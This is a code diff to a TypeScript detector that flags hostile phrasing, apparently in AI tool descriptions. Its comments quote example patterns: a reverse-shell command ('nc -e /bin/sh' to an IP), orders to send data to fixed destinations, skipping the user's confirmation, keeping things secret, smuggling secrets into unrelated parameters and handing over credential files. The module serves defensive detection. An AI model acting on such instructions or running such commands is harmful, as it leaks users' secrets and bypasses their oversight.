@@ -1,21 +1,21 @@
 import * as W from './intent-words.js';
+import { TO_MODEL, LATEST, NEGATED_NEED, personNear, type Reach } from './intent-reach-words.js';
 import {
-  TO_MODEL,
-  LATEST,
-  NEGATED_NEED,
-  personNear,
   SENDS,
   DISPARAGE,
   RUNDOWN,
+  CHOICE,
+  SETS_ASIDE,
+  ASKING,
+  SEND_NOW,
   UNNEEDED,
   GATE,
   ACT_BASE,
   ACT_THIRD,
   SHARES,
   TOLD,
-  type Reach,
-} from './intent-reach-words.js';
-import { isToolName, type Token } from './intent-text.js';
+} from './intent-flow-words.js';
+import { anySecret, isPath, isSecret, isToolName, type Token } from './intent-text.js';
 
 // More of the broad reading (intent-signals.ts), one token at a time: data said to have gone somewhere, the person's
 // gate skipped, another tool run down, everyone's contact details, the model's reply used for someone else's words,
@@ -36,6 +36,9 @@ const near = (ts: Token[], i: number, back: number, ahead: number, set: Readonly
 const NOT_NOW = new Set(['not', 'never', "doesn't", "don't", 'no', 'nobody']);
 const EVERY = new Set(['every', 'all']);
 const SENDS_NOW = new Set(['sends', 'emails', 'posts', 'uploads', 'forwards', 'shares', 'mails', 'texts']);
+const FIELD = new Set(['field', 'parameter', 'param', 'argument']);
+const PASSED = new Set(['listed', 'included', 'passed', 'attached', 'provided', 'supplied', 'added']);
+const QUOTE = /^["\u201c]$/;
 const ID_LIKE = /^[A-Z][A-Z0-9]{7,}$/;
 const IP = /\b(?!127\.|0\.0\.)(?:\d{1,3}\.){3}\d{1,3}\b/;
 
@@ -51,11 +54,16 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   const prev = ts[i - 1]?.w ?? '';
   // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
   if (t.kind === 'code' && IP.test(t.raw)) reach.add('address');
-  if (SENDS.has(w) || (w === 'goes' && next === 'to')) {
-    reach.add('send');
+  // An order to send to a destination fixed in the text: "send the query to "hr-salaries"".
+  const sendsTo = SEND_NOW.has(w) && ts.slice(i + 1, i + 5).some((x) => x.w === 'to' || x.w === 'into');
+  if (SENDS.has(w) || (w === 'goes' && next === 'to') || sendsTo) {
     // A destination fixed in the text: a channel or user id, or a quoted name ("under the organization "x"").
-    if (ts.slice(i + 1, i + 9).some((x) => ID_LIKE.test(x.raw) || (x.quoted && x.kind === 'word')))
-      reach.add('address');
+    const fixed = ts
+      .slice(i + 1, i + 9)
+      .some((x, k) => ID_LIKE.test(x.raw) || (x.kind === 'word' && (x.quoted || QUOTE.test(ts[i + k]!.raw))));
+    if (fixed) reach.add('address');
+    // "upload the attachment to this Base" is a tool's own job: an order to send counts only toward a fixed place.
+    if (fixed || !sendsTo) reach.add('send');
   }
   if (TOLD.has(w) && near(ts, i, 3, 0, NOT_NOW)) reach.add('deceit');
   if (
@@ -75,13 +83,45 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
     // A gate declared needless is an order to skip it, said as a fact.
     directs = true;
   }
-  if (DISPARAGE.has(w) && ts.some((x) => x.kind !== 'mark' && isToolName(x))) {
+  // A tool named as tools are (`snake_case`, `kebab-case`, in backticks), not a variable (`{resourceId}`); and not
+  // "fabricated from the variable", which is how a thing is made.
+  if (
+    DISPARAGE.has(w) &&
+    next !== 'from' &&
+    ts.some((x) => x.kind !== 'mark' && isToolName(x) && /[_`-]/.test(x.raw))
+  ) {
     reach.add('disparage');
     // Its results called bad or dangerous ("serves fabricated prices", "carries malware"), not just retired.
     if (RUNDOWN.has(w)) reach.add('rundown');
     // Another tool run down while something is named the only or most accurate: a steer, said as a fact.
     if (ts.some((x) => W.BOAST.has(x.w))) directs = true;
   }
+  // The person's choice set aside: "whatever the user specifies", "instead of the path the user picked".
+  if (SETS_ASIDE.has(w) && (w !== 'instead' || next === 'of') && ts.slice(i + 1, i + 9).some((x) => CHOICE.has(x.w)))
+    reach.add('override');
+  // Asking the person left out: "no need to check with the person", "without asking".
+  if (ASKING.has(w) && (NEGATED_NEED(ts, i) || prev === 'without')) {
+    reach.add('unconfirmed');
+    directs = true;
+  }
+  // Kept between the text and the model: "this stays between us", "keep it to yourself".
+  if ((w === 'us' && prev === 'between') || (w === 'yourself' && prev === 'to')) reach.add('deceit');
+  // Other servers or tools run down without a name: "other documentation servers … have been poisoned".
+  if (
+    RUNDOWN.has(w) &&
+    ts.some(
+      (x, k) => x.w === 'other' && /^(?:tools?|servers?|sources?|providers?)$/.test(ts[k + 2]?.w ?? ts[k + 1]?.w ?? ''),
+    )
+  ) {
+    reach.add('disparage');
+    reach.add('rundown');
+  }
+  // A secret put into a parameter meant for something else: "include both in the runId field".
+  const field = FIELD.has(w) ? W.fieldNamed(ts.slice(i - 1, i + 1)) : undefined;
+  if (field && !W.SECRET_PARAM.test(field) && ts.some((x) => W.SMUGGLE_VERBS.has(x.w)) && anySecret(ts))
+    reach.add('misfiled');
+  // A credentials file handed over as an input: "/home/$USER/.npmrc is listed among the files".
+  if (PASSED.has(w) && ts.slice(Math.max(0, i - 4), i + 5).some((x) => isPath(x) && isSecret(x))) reach.add('carry');
   // The model said to send: "the assistant emails the draft to …".
   if (SENDS_NOW.has(w) && i > 0 && TO_MODEL.has(prev)) reach.add('send');
   // Money and identity details: "bank details", "card number", "IBAN".
